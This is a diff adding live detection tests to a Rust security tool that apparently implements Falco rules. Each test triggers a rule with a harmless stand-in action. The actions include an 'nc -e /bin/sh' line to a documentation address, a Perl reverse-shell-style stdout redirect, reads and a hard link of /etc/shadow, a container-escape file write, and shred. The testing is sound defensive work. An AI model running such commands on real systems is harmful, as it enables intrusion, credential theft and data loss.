@@ -18,6 +18,10 @@ const STABLE: &str = concat!(
     env!("CARGO_MANIFEST_DIR"),
     "/../../../shared/corpus/falco-rules/falco_rules.yaml"
 );
+const INCUBATING: &str = concat!(
+    env!("CARGO_MANIFEST_DIR"),
+    "/../../../shared/corpus/falco-rules/falco-incubating_rules.yaml"
+);
 
 /// Fails the test, saying why, when live capture cannot run here (the
 /// harness has then reported it as ignored unless `QUELL_LIVE_TESTS=1`).
@@ -758,12 +762,24 @@ fn a_key_read_under_a_searched_tree_has_its_full_path() {
 }
 
 /// `quell run` says once, at start-up, which loaded rules can never fire
-/// live and why: the stable `Contact K8S API Server From Container` needs
-/// `fd.sip.name`, which live capture does not resolve.
+/// live and why (here a rule on `container.mount.dest`, which live capture
+/// does not read); the stable `Contact K8S API Server From Container`, whose
+/// `fd.sip.name` is now given from the names its condition mentions, is no
+/// longer among them.
 fn start_up_names_the_rules_that_can_never_fire_live() {
     require_live();
+    let d = scratch();
+    let rules = d.path().join("mount.yaml");
+    std::fs::write(
+        &rules,
+        "- rule: Mounted etc\n  desc: d\n  condition: evt.type = openat and container.mount.dest[/etc] exists\n  \
+         output: o\n  priority: INFO\n",
+    )
+    .unwrap();
     let out = Command::new(QUELL)
-        .args(["run", "-r", STABLE, "--", "true"])
+        .args(["run", "-r", STABLE, "-r"])
+        .arg(&rules)
+        .args(["--", "true"])
         .output()
         .expect("run quell");
     let stderr = String::from_utf8_lossy(&out.stderr);
@@ -776,8 +792,11 @@ fn start_up_names_the_rules_that_can_never_fire_live() {
     assert!(
         stderr
             .lines()
-            .any(|l| l.contains("Contact K8S API Server From Container")
-                && l.contains("fd.sip.name")),
+            .any(|l| l.contains("Mounted etc") && l.contains("container.mount.dest")),
+        "{stderr}"
+    );
+    assert!(
+        !stderr.contains("Contact K8S API Server From Container"),
         "{stderr}"
     );
     // the default rules all can fire: nothing is said
@@ -787,6 +806,38 @@ fn start_up_names_the_rules_that_can_never_fire_live() {
         .expect("run quell");
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(!stderr.contains("never fire"), "{stderr}");
+}
+
+/// `fd.sip.name` as Falco gives it: the host names a condition compares the
+/// field with are resolved (here `localhost`, through /etc/hosts) and a
+/// connection to one of their addresses carries the name; a connection to
+/// another loopback address (127.0.0.2) does not. The stable rule's own name
+/// (`kubernetes.default.svc.cluster.local`) does not resolve on a test
+/// machine, so a rule of the same shape on `localhost` stands in for it.
+fn server_host_name_from_the_names_conditions_mention() {
+    let d = scratch();
+    let rules = d.path().join("dns.yaml");
+    std::fs::write(
+        &rules,
+        "- macro: api_server\n  condition: (fd.sip.name=\"localhost\")\n\
+         - rule: Contact local API server\n  desc: d\n  \
+         condition: evt.type=connect and (fd.typechar=4 or fd.typechar=6) and api_server\n  \
+         output: contact (server=%fd.sip.name ip=%fd.sip port=%fd.sport)\n  priority: NOTICE\n",
+    )
+    .unwrap();
+    let udp = |ip: &str| {
+        format!(
+            "perl -e 'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; \
+             connect($s, pack_sockaddr_in(9, inet_aton(\"{ip}\"))) or die \"connect: $!\"'"
+        )
+    };
+    let script = format!("{}; {}", udp("127.0.0.1"), udp("127.0.0.2"));
+    let r = quell_run(d.path(), &[rules.to_str().unwrap()], &script);
+    let a = stable_alerts(&r, "Contact local API server");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "fd.sip.name"), "localhost");
+    assert_eq!(f(a[0], "fd.sip"), "127.0.0.1");
+    assert!(!r.stderr.contains("never fire"), "{}", r.stderr);
 }
 
 /// Credential searches and a traversal read, with the upstream stable rules:
@@ -822,6 +873,275 @@ fn credential_searches_and_traversal_read() {
         "the near misses fire nothing: {:?}",
         r.rules()
     );
+}
+
+/// A "container" for the stable rules' `container` macro: a cgroup v2 named as
+/// docker names a container's (see [`container_cgroup`]; its tag must be
+/// hex digits), removed on drop. A script joins it with [`Ctr::enter`]. The
+/// stable rules' outputs carry no container id: their `container` macro
+/// firing is what shows the container was seen.
+struct Ctr {
+    cg: String,
+}
+
+impl Ctr {
+    fn new(tag: &str) -> Ctr {
+        require_live();
+        let (_, cg) = container_cgroup(tag);
+        Ctr { cg }
+    }
+    /// Shell text moving the running shell (and so what it starts) into the container.
+    fn enter(&self) -> String {
+        format!("echo $$ > {}/cgroup.procs", self.cg)
+    }
+}
+
+impl Drop for Ctr {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir(&self.cg);
+    }
+}
+
+fn stable_alerts<'a>(r: &'a Run, rule: &str) -> Vec<&'a Json> {
+    r.alerts.iter().filter(|a| a["rule"] == rule).collect()
+}
+
+/// Read sensitive file trusted after startup: a server program (a shell copy
+/// named `nginx`) reads /etc/shadow itself more than 5 s after it started;
+/// the same read by a fresh `nginx` (the near miss) is not this rule's.
+fn read_sensitive_file_trusted_after_startup() {
+    let d = scratch();
+    let script = "cp /bin/sh ./nginx; ./nginx -c 'sleep 6; read x < /etc/shadow; true'; \
+                  ./nginx -c 'read x < /etc/shadow; true'";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "Read sensitive file trusted after startup");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "fd.name"), "/etc/shadow");
+    assert_eq!(f(a[0], "proc.name"), "nginx");
+}
+
+/// System user interactive: a system user's process (`daemon`) under an
+/// `sshd` ancestor (a shell copy so named); the same under a user that is no
+/// system user (uid 12345) is the near miss.
+fn system_user_interactive() {
+    let d = scratch();
+    let script = "cp /bin/sh ./sshd; ./sshd -c '\
+        setpriv --reuid=daemon --regid=daemon --clear-groups sh -c \"true; true\"; \
+        setpriv --reuid=12345 --regid=12345 --clear-groups sh -c \"true; true\"; true'";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "System user interactive");
+    assert!(!a.is_empty(), "{:?}\n{}", r.rules(), r.stderr);
+    for x in &a {
+        assert_eq!(f(x, "user.name"), "daemon", "{x}");
+    }
+}
+
+/// Terminal shell in container: in a container, a shell whose parent is the
+/// runtime (a shell copy named `runc`) with a terminal (`script` gives a
+/// pty); the same without a terminal (`setsid`: no controlling tty) is the
+/// near miss.
+fn terminal_shell_in_container() {
+    let c = Ctr::new("7e7711");
+    let d = scratch();
+    let script = format!(
+        "cp /bin/sh ./runc; {}; script -qec \"./runc -c 'sh -c true; true'\" /dev/null < /dev/null; \
+         setsid -w ./runc -c 'sh -c \"true; true\"; true'",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Terminal shell in container");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "sh");
+    assert_eq!(f(a[0], "proc.pname"), "runc");
+    assert_ne!(f(a[0], "proc.tty"), &Json::from(0));
+}
+
+/// Netcat Remote Code Execution in Container: `nc -e` in a container (a
+/// stand-in binary named `nc`: no netcat is installed, and the rule reads
+/// only the name and the command line); `nc -z` is the near miss.
+fn netcat_remote_code_execution_in_container() {
+    let c = Ctr::new("0cacce");
+    let d = scratch();
+    let script = format!(
+        "cp /bin/true ./nc; {}; ./nc -e /bin/sh 198.51.100.1 4444; ./nc -z 198.51.100.1 4444",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Netcat Remote Code Execution in Container");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.cmdline"), "nc -e /bin/sh 198.51.100.1 4444");
+}
+
+/// Packet socket created in container: an `AF_PACKET` socket in a container;
+/// the same socket on the host (before the shell joins the container) is the
+/// near miss.
+fn packet_socket_created_in_container() {
+    let c = Ctr::new("9acce7");
+    let d = scratch();
+    let sock = "perl -e 'socket(my $s, 17, 3, 0) or die \"socket: $!\"'";
+    let script = format!("{sock}; {}; {sock}", c.enter());
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Packet socket created in container");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "perl");
+}
+
+/// Redirect STDOUT/STDIN to Network Connection in Container: stdout
+/// duplicated from a connected UDP socket (`dup2(sock, 1)`, as a reverse
+/// shell does); stdout duplicated from a regular file is the near miss.
+fn redirect_stdout_to_network_connection_in_container() {
+    let c = Ctr::new("5d0d0e");
+    let d = scratch();
+    let script = format!(
+        "{}; perl -e 'use Socket; use POSIX; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; \
+         connect($s, pack_sockaddr_in(9, inet_aton(\"127.0.0.1\"))) or die \"connect: $!\"; \
+         defined POSIX::dup2(fileno($s), 1) or die \"dup2: $!\"'; \
+         perl -e 'use POSIX; open(my $f, \">\", \"out.txt\") or die; defined POSIX::dup2(fileno($f), 1) or die'",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(
+        &r,
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+    );
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "perl");
+}
+
+/// Detect release_agent File Container Escapes: root in a container opens a
+/// file named `release_agent` for writing (a scratch file: the rule reads
+/// the name, not whether it is a cgroup v1 control file); reading it is the
+/// near miss.
+fn release_agent_file_container_escape() {
+    let c = Ctr::new("4e1ea5");
+    let d = scratch();
+    let script = format!(
+        "{}; echo /x > ./release_agent; cat ./release_agent > /dev/null",
+        c.enter()
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Detect release_agent File Container Escapes");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(
+        f(a[0], "fd.name"),
+        &Json::from(format!("{}/release_agent", d.path().display()))
+    );
+}
+
+/// Remove Bulk Data from Disk: `shred` of a scratch file; `rm` is the near miss.
+fn remove_bulk_data_from_disk() {
+    let d = scratch();
+    let script = "head -c 4096 /dev/zero > a.bin; cp a.bin b.bin; shred -u a.bin; rm b.bin";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "Remove Bulk Data from Disk");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "shred");
+    assert!(!d.path().join("a.bin").exists());
+}
+
+/// Create Hardlink Over Sensitive Files: a hard link to /etc/shadow (in the
+/// scratch directory, on the same filesystem, removed at once); a link to
+/// /etc/hostname is the near miss.
+fn create_hardlink_over_sensitive_files() {
+    let d = scratch();
+    let script = "ln /etc/shadow ./s.lnk && rm ./s.lnk; ln /etc/hostname ./h.lnk && rm ./h.lnk";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "Create Hardlink Over Sensitive Files");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "evt.arg.oldpath"), "/etc/shadow");
+    assert_eq!(f(a[0], "proc.name"), "ln");
+}
+
+/// PTRACE anti-debug attempt: `ptrace(PTRACE_TRACEME)`; a `PTRACE_PEEKDATA`
+/// is the near miss.
+fn ptrace_anti_debug_attempt() {
+    let d = scratch();
+    let script = "perl -e 'syscall(101, 0, 0, 0, 0)'; perl -e 'syscall(101, 2, 999999, 0, 0)'";
+    let r = quell_run(d.path(), &[STABLE], script);
+    let a = stable_alerts(&r, "PTRACE anti-debug attempt");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "proc.name"), "perl");
+}
+
+/// Disallowed SSH Connection Non Standard Port: `ssh -p 443` to a public
+/// (TEST-NET-2) address, in a network namespace of the test's own where
+/// that address range is local (the connection is refused at once; the
+/// non-blocking connect gives `EINPROGRESS`, which the `outbound` macro
+/// accepts); `ssh -p 2222` is the near miss.
+fn disallowed_ssh_connection_non_standard_port() {
+    let d = scratch();
+    let ssh = "ssh -F /dev/null -o ConnectTimeout=2 -o BatchMode=yes -o StrictHostKeyChecking=no \
+               -o UserKnownHostsFile=/dev/null";
+    let script = format!(
+        "exec unshare --net sh -c 'ip link set lo up && ip addr add 198.51.100.1/24 dev lo && \
+         {{ {ssh} -p 443 root@198.51.100.7 true; {ssh} -p 2222 root@198.51.100.7 true; true; }}'"
+    );
+    let r = quell_run(d.path(), &[STABLE], &script);
+    let a = stable_alerts(&r, "Disallowed SSH Connection Non Standard Port");
+    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(a[0], "fd.rport"), 443);
+    assert_eq!(f(a[0], "proc.name"), "ssh");
+}
+
+/// Set Setuid or Setgid bit (incubating rules): `evt.arg.mode` names the
+/// bits as libsinsp does (`S_ISUID`), so `chmod 4755` and `chmod g+s` fire;
+/// `chmod 755` is the near miss.
+fn set_setuid_or_setgid_bit() {
+    let d = scratch();
+    let script =
+        "cp /bin/true ./helper; chmod 4755 ./helper; chmod g+s ./helper; chmod 755 ./helper";
+    let r = quell_run(d.path(), &[STABLE, INCUBATING], script);
+    let a = stable_alerts(&r, "Set Setuid or Setgid bit");
+    assert_eq!(a.len(), 2, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(
+        f(a[0], "evt.arg.mode"),
+        "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"
+    );
+    assert!(
+        f(a[1], "evt.arg.mode")
+            .as_str()
+            .unwrap_or("")
+            .ends_with("S_ISGID|S_ISUID"),
+        "{}",
+        a[1]
+    );
+}
+
+/// `proc.env` live: the environment comes with the exec (as Falco bounds
+/// it, 4096 bytes). The incubating rule `Program run with disallowed http
+/// proxy env` fires on `curl` run with `HTTP_PROXY` set and not on the same
+/// `curl` without it; `proc.env[NAME]` reads one variable.
+fn process_environment_at_exec() {
+    let d = scratch();
+    let rules = d.path().join("env.yaml");
+    std::fs::write(
+        &rules,
+        "- rule: Marked probe\n  desc: d\n  \
+         condition: evt.type in (execve, execveat) and proc.name = probe and proc.env[QUELL_LIVE_MARK] = \"42 x\"\n  \
+         output: probe (mark=%proc.env[QUELL_LIVE_MARK])\n  priority: NOTICE\n",
+    )
+    .unwrap();
+    let script =
+        "cp /bin/true ./probe; QUELL_LIVE_MARK='42 x' ./probe; QUELL_LIVE_MARK=4 ./probe; \
+                  HTTP_PROXY=http://198.51.100.1:3128 curl --version > /dev/null; \
+                  env -u HTTP_PROXY -u http_proxy curl --version > /dev/null";
+    let r = quell_run(
+        d.path(),
+        &[STABLE, INCUBATING, rules.to_str().unwrap()],
+        script,
+    );
+    let probe = stable_alerts(&r, "Marked probe");
+    assert_eq!(probe.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    assert_eq!(f(probe[0], "proc.env[QUELL_LIVE_MARK]"), "42 x");
+    let proxy = stable_alerts(&r, "Program run with disallowed http proxy env");
+    assert_eq!(proxy.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
+    let env = f(proxy[0], "proc.env").as_str().unwrap_or("");
+    assert!(
+        env.split(' ')
+            .any(|e| e == "HTTP_PROXY=http://198.51.100.1:3128"),
+        "{env}"
+    );
+    assert!(env.len() <= 4096, "{}", env.len());
 }
 
 /// The test harness (libtest-mimic): a live test that cannot run here (not
@@ -930,6 +1250,58 @@ fn main() {
         .with_ignored_flag(ignore),
         Trial::test("start_up_names_the_rules_that_can_never_fire_live", || {
             run(start_up_names_the_rules_that_can_never_fire_live)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("read_sensitive_file_trusted_after_startup", || {
+            run(read_sensitive_file_trusted_after_startup)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("system_user_interactive", || run(system_user_interactive))
+            .with_ignored_flag(ignore),
+        Trial::test("terminal_shell_in_container", || {
+            run(terminal_shell_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("netcat_remote_code_execution_in_container", || {
+            run(netcat_remote_code_execution_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("packet_socket_created_in_container", || {
+            run(packet_socket_created_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("redirect_stdout_to_network_connection_in_container", || {
+            run(redirect_stdout_to_network_connection_in_container)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("release_agent_file_container_escape", || {
+            run(release_agent_file_container_escape)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("remove_bulk_data_from_disk", || {
+            run(remove_bulk_data_from_disk)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("create_hardlink_over_sensitive_files", || {
+            run(create_hardlink_over_sensitive_files)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("ptrace_anti_debug_attempt", || {
+            run(ptrace_anti_debug_attempt)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("disallowed_ssh_connection_non_standard_port", || {
+            run(disallowed_ssh_connection_non_standard_port)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("server_host_name_from_the_names_conditions_mention", || {
+            run(server_host_name_from_the_names_conditions_mention)
+        })
+        .with_ignored_flag(ignore),
+        Trial::test("set_setuid_or_setgid_bit", || run(set_setuid_or_setgid_bit))
+            .with_ignored_flag(ignore),
+        Trial::test("process_environment_at_exec", || {
+            run(process_environment_at_exec)
         })
         .with_ignored_flag(ignore),
     ];
